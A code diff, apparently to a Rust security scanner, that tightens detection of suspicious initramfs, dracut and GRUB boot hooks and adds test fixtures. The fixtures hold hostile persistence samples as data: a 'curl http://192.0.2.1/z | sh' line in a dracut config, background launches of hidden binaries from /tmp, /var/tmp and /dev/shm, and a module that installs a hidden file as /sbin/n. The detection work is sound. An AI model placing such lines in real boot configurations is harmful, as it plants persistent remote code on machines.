@@ -39,6 +39,7 @@ const COPIES: &[&[u8]] = &[
     b"inst_binary",
     b"inst_script",
     b"inst_multiple",
+    b"inst_hook",
     b"add_binary",
     b"add_file",
     b"manual_add_modules",
@@ -53,7 +54,7 @@ fn copied(tables: &Tables, drafts: &mut Vec<Draft>) {
             0 => described.as_ref().and_then(|file| file.fact.text.as_ref()),
             _ => Some(&row.fact.command),
         };
-        let lines = text.map(|text| text.as_bytes()).unwrap_or_default().split(|b| matches!(b, b'\n' | b';'));
+        let lines = text.map(|text| text.as_bytes()).unwrap_or_default().split(|b| b"\n;{}()&|".contains(b));
         for line in lines.take(2000) {
             let mut words = line.split(u8::is_ascii_whitespace).filter(|word| !word.is_empty());
             if !words.next().is_some_and(|word| COPIES.contains(&word)) {
@@ -123,7 +124,12 @@ mod tests {
             ("/usr/share/initramfs-tools/hooks/zlib", "#!/bin/sh\ncopy_exec /usr/bin/zl\n"),
             ("/usr/share/initramfs-tools/scripts/local-bottom/q", "#!/bin/sh\ntrue\n"),
             ("/etc/initramfs-tools/conf.d/x", "RESUME=none\n/tmp/.a &\n"),
-            ("/usr/lib/dracut/modules.d/99net/hook.sh", "#!/bin/sh\ntrue\n"),
+            ("/usr/lib/dracut/modules.d/99net/hook.sh", "#!/bin/sh\n/var/tmp/n &\n"),
+            ("/usr/lib/dracut/modules.d/99net/n", "\x7fELF\x02\0"),
+            (
+                "/usr/lib/dracut/modules.d/98fs/module-setup.sh",
+                "#!/bin/bash\ncheck() { return 0; }\ninstall() { inst /usr/share/.f/n /sbin/n; }\n",
+            ),
             ("/etc/dracut.conf.d/z.conf", "add_drivers+=\" x \"\ncurl http://192.0.2.1/z | sh\n"),
             ("/etc/grub.d/42_menu", "#!/bin/sh\n/dev/shm/m\n"),
             ("/etc/grub.d/40_custom", "#!/bin/sh\nnohup /var/tmp/g &\nexec tail -n +3 $0\n"),
@@ -152,5 +158,10 @@ mod tests {
                 .file("/etc/dracut.conf.d/local.conf", "hostonly=\"yes\"\nadd_dracutmodules+=\" crypt \"\n"),
         );
         assert!(seen.by("boot-hook").is_empty(), "{:#?}", seen.findings);
+        // dracut(8) knows no other place.
+        let path = "/usr/lib/dracut/modules.d/98shop/module-setup.sh";
+        let text = "#!/bin/bash\ncheck() { return 0; }\ndepends() { echo network; }\ninstall() { inst /sbin/mdadm; }\n";
+        let seen = check(debian().file(path, text).owned(path, 0o755, 0, 0));
+        assert!(seen.alarms("boot-hook").is_empty(), "{:#?}", seen.findings);
     }
 }
